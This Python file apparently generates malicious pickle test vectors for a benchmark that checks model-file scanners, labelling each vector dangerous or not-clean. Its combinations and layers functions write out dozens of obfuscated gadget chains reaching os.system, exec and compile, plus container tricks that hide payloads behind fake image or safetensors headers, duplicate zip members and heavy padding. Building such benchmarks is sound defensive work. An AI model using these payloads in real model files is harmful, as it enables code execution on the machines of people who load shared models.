# ruff: noqa: E501, FBT003 - payloads stand in one line each; arguments of the gadgets are what they are
"""Malicious pickles of this benchmark's own: each gadget in a container, and combinations of tricks."""

from __future__ import annotations

import bz2
import lzma
import random
import zlib
from typing import TYPE_CHECKING

import gadgets

from vectors.asm import CODE, COMMAND, Raw, Vector, benign, call, obj, payload, pickle, push, ref, text
from vectors.containers import npy
from vectors.writers import Member, archive, gz, lz4, seven, tar, zstd

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

Pair = tuple[str, tuple[object, ...]]


def torch_zip(data: bytes) -> bytes:
    return archive(
        Member("archive/data.pkl", data),
        Member("archive/byteorder", b"little"),
        Member("archive/data/0", bytes(64)),
        Member("archive/version", b"3\n"),
    )


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "model.pkl": bytes, "model.pt": torch_zip, "model.joblib": zlib.compress, "model.pkl.gz": gz, "model.npy": npy,
    "model.bin": bytes, "model.joblib.xz": lzma.compress, "weights.npz": lambda data: archive(Member("a.npy", npy(data))),
    "model.tar.gz": lambda data: gz(tar({"model/model.pkl": data})), "model.pkl.bz2": bz2.compress,
}  # fmt: skip

# Built, bent or broken, but loading alone does not reach the payload.
SOFT = {
    "getattr chain to subclasses", "string template", "torch script of a string", "appends to a module's list",
    "chain through __init__", "class by new_class", "class by make_dataclass", "property setter",
    "state through a dispatch table", "frame of an eval", "sklearn parallel", "import hook", "protocol said nine",
    "truncated zip of a pickle",
}  # fmt: skip


def vectors(seed: int) -> Iterator[tuple[str, Vector]]:
    """Pairs of `known` or `held-out` and a vector; the seed draws protocol and container of each gadget."""
    draw = random.Random(seed)
    for group, label, table, expect in (
        ("known", "gadget-known", gadgets.KNOWN, "dangerous"),
        ("held-out", "gadget-standard-library", gadgets.STANDARD, "dangerous"),
        ("held-out", "gadget-library", gadgets.LIBRARIES, "dangerous"),
        ("held-out", "gadget-import", gadgets.IMPORT, "not-clean"),
        ("held-out", "gadget-side-effect", gadgets.SIDE, "not-clean"),
    ):
        for pair in table:
            yield group, _wrapped(label, pair, expect, draw)
    for found in gadgets.RESOLVERS:
        name = found[2 : 2 + found[1]].decode()
        yield (
            "held-out",
            Vector("gadget-resolver", f"{name} then call", "model.pkl", pickle(call(found, COMMAND))),
        )
    for path in gadgets.NAMES:
        yield "held-out", Vector("gadget-name-alone", path, "model.pkl", pickle(ref(path)), "not-clean")
    for name, body in combinations().items():
        yield (
            "held-out",
            Vector(
                "combination",
                name,
                "model.pkl",
                pickle(body, version=4),
                "not-clean" if name in SOFT else "dangerous",
            ),
        )
    for name, (file, data) in layers().items():
        yield (
            "held-out",
            Vector("combination", name, file, data, "not-clean" if name in SOFT else "dangerous"),
        )


def _wrapped(label: str, pair: Pair, expect: str, draw: random.Random) -> Vector:
    path, arguments = pair
    inner = b"".join(push(item) for item in arguments)
    plain = gadgets.fits(path, 2) and b"\x93" not in inner and b"\x8c" not in inner
    version = draw.choice(
        (0, 2, 4) if plain and not any(isinstance(item, bytes) for item in arguments) else (4, 4, 5)
    )
    file = draw.choice(list(CONTAINERS)) if draw.random() < 0.5 else "model.pkl"
    hit = call(path, *arguments, version=version)
    style = draw.choice(("bare", "value", "dropped"))
    if version == 0:
        style = "bare"
    body = {
        "bare": hit,
        "value": Raw(b"}" + push("weights", version) + hit + b"s"),
        "dropped": Raw(hit + b"0}"),
    }[style]
    return Vector(
        label,
        f"{path}, protocol {version}, {style}",
        file,
        CONTAINERS[file](pickle(body, version=version)),
        "dangerous" if expect == "dangerous" else "not-clean",
    )


def combinations() -> dict[str, Raw]:
    system, run = ref("os:system"), push((COMMAND,))
    builtin = call("builtins:__import__", "os")
    getter = ref("builtins:getattr")
    chain = call(
        getter,
        call(getter, call(getter, ref("collections:OrderedDict"), "__init__"), "__class__"),
        "__call__",
    )
    return {
        "getattr of an import": Raw(call(getter, builtin, "system") + run + b"R"),
        "getattr chain to subclasses": Raw(call(getter, ref("builtins:object"), "__subclasses__") + b")R"),
        "getattr of a name built by bytes.decode": Raw(call(getter, builtin, call("builtins:bytes.decode", b"system", "ascii")) + run + b"R"),
        "reversed name": Raw(text("os") + call("builtins:str.join", "", call("builtins:reversed", "metsys")) + b"\x93" + run + b"R"),
        "name by slicing": Raw(text("os") + call("operator:getitem", "xxsystem", call("builtins:slice", 2, None)) + b"\x93" + run + b"R"),
        "module by format": Raw(call("builtins:str.format", "{}{}", "o", "s") + text("system") + b"\x93" + run + b"R"),
        "dict of callables, then one": Raw(call("operator:getitem", {"f": system}, "f") + run + b"R"),
        "partial in a partial": Raw(call("functools:partial", call("functools:partial", system), COMMAND) + b")R"),
        "starmap through a deque": call("collections:deque", call("itertools:starmap", system, [(COMMAND,)])),
        "map through a set": call("builtins:set", call("builtins:map", system, [COMMAND])),
        "max with a key": call("functools:reduce", ref("operator:call"), [system, COMMAND]),
        "map through join": call("builtins:str.join", "", call("builtins:map", ref("subprocess:getoutput"), [COMMAND])),
        "map through a numpy array": call("numpy:fromiter", call("builtins:map", system, [COMMAND]), "i4"),
        "map through a pandas series": call("pandas.core.series:Series", call("builtins:map", system, [COMMAND])),
        "map through Counter": call("collections:Counter", call("builtins:map", system, [COMMAND])),
        "filter through sum": call("builtins:sum", call("builtins:filter", system, [COMMAND])),
        "zip through dict": call("builtins:dict", call("builtins:zip", ["a"], call("builtins:map", system, [COMMAND]))),
        "accumulate": call("builtins:list", call("itertools:accumulate", [COMMAND, COMMAND], ref("operator:concat"))) + call("builtins:list", call("itertools:accumulate", [system, COMMAND], ref("operator:call"))),
        "state through a dispatch table": Raw(call("copyreg:pickle", ref("collections:OrderedDict"), system) + b"0N"),
        "property setter": obj("argparse:Namespace", state={"__class__": call("builtins:type", "X", (), {"__del__": call("functools:partial", system, COMMAND)})}),
        "class with a call on delete": Raw(call(call("builtins:type", "X", (), {"__del__": call("functools:partial", system, COMMAND)})) + b"0N"),
        "class with a state setter": Raw(call("builtins:type", "X", (), {"__setstate__": system}) + b")\x81" + push(COMMAND) + b"b"),
        "class by make_dataclass": call("dataclasses:make_dataclass", "X", [("a", "int", call("dataclasses:field", None))], (), {"__post_init__": system}),
        "class by new_class": call("types:new_class", "X", (), {}, call("functools:partial", system, COMMAND)),
        "function of code": Raw(call("types:FunctionType", call("builtins:compile", CODE, "x", "exec"), {}) + b")R"),
        "enum with a function": call("enum:Enum", "X", call("builtins:map", system, [COMMAND])),
        "lambda of sympy": Raw(call("sympy.utilities.lambdify:lambdify", [], CODE) + b")R"),
        "frame of an eval": call("pandas.core.computation.eval:eval", "@__import__('os').system('true')"),
        "exec in a thread": call("_thread:start_new_thread", ref("builtins:exec"), (CODE,)),
        "import hook": Raw(ref("sys:meta_path") + b"(" + obj("argparse:Namespace", state={"find_spec": system}) + b"e"),
        "appends to a module's list": Raw(ref("sys:path") + b"(" + push("/nonexistent") + b"e"),
        "sets an item of the environment": Raw(ref("os:environ") + push("LD_PRELOAD") + push("/nonexistent/x.so") + b"s"),
        "adds to an atexit list": call("weakref:finalize", call("collections:OrderedDict"), system, COMMAND),
        "breakpoint hook": Raw(ref("sys:modules") + push("os") + obj("argparse:Namespace") + b"s"),
        "chain through __init__": Raw(chain + run + b"R"),
        "string template": call("string:Formatter.vformat", call("string:Formatter"), "{0.__globals__}", [ref("collections:namedtuple")], {}),
        "numpy ufunc of os": Raw(call("numpy._core._internal:_ctypes", 1) + b"0" + call("numpy:frompyfunc", system, 1, 1) + run + b"R"),
        "torch map": call("torch.utils._pytree:tree_map", system, [COMMAND]),
        "torch script of a string": call("torch.jit:CompilationUnit", "def f():\n  return 1\n"),
        "sklearn parallel": call("sklearn.utils.parallel:Parallel.__call__", call("sklearn.utils.parallel:Parallel"), [call("sklearn.utils.parallel:delayed", system)]),
    }  # fmt: skip


def layers() -> dict[str, tuple[str, bytes]]:
    hit, clean = payload(2), benign(2)
    double = archive(
        Member("archive/data.pkl", clean),
        Member("archive/data.pkl", hit, crc=1),
        Member("archive/version", b"3\n"),
    )
    return {
        "duplicate with a bad checksum": ("model.pt", double),
        "flag bit and prefix": (
            "model.pt",
            archive(
                Member("archive/data.pkl", hit, flags=1),
                Member("archive/version", b"3\n"),
                prefix=b"GIF89a",
                shift=1,
            ),
        ),
        "joblib in a zip in a tar": (
            "model.tar",
            tar({"a.zip": archive(Member("m.joblib", zlib.compress(hit)))}),
        ),
        "zstd of a torch zip": ("model.pt.zst", zstd(torch_zip(hit))),
        "lz4 of an npy": ("weights.npy.lz4", lz4(npy(hit))),
        "7z of a gz": ("model.bin", seven("a.gz", gz(hit))),
        "truncated zip of a pickle": ("model.pt", torch_zip(hit)[:-40]),
        "stream behind a safetensors header": ("model.bin", hit + b"\x10\x00\x00\x00\x00\x00\x00\x00{}"),
        "numpy in a pickle in a zip": (
            "model.npz",
            archive(
                Member(
                    "arr_0.npy",
                    npy(
                        pickle(
                            call("numpy:load", "/nonexistent/x.npy", None, True)
                            + b"0"
                            + call("os:system", COMMAND)
                        )
                    ),
                )
            ),
        ),
        "pickle with a signature of a picture": (
            "model.pkl",
            pickle(push(b"\x89PNG\r\n\x1a\n") + b"0" + call("os:system", COMMAND)),
        ),
        "a hundred thousand opcodes first": (
            "model.pkl",
            pickle(b"N0" * 100000 + call("os:system", COMMAND)),
        ),
        "a megabyte of bytes first": (
            "model.pkl",
            b"\x80\x04B\x00\x00\x10\x00" + bytes(1 << 20) + b"0" + call("os:system", COMMAND) + b".",
        ),
        "a deep list around": ("model.pkl", pickle(b"]" * 2000 + call("os:system", COMMAND) + b"a" * 2000)),
        "two bytes of comment first": ("model.pkl", b"NN" + payload(2)[2:]),
        "protocol said nine": ("model.pkl", b"\x80\x09" + payload(2)[2:]),
    }
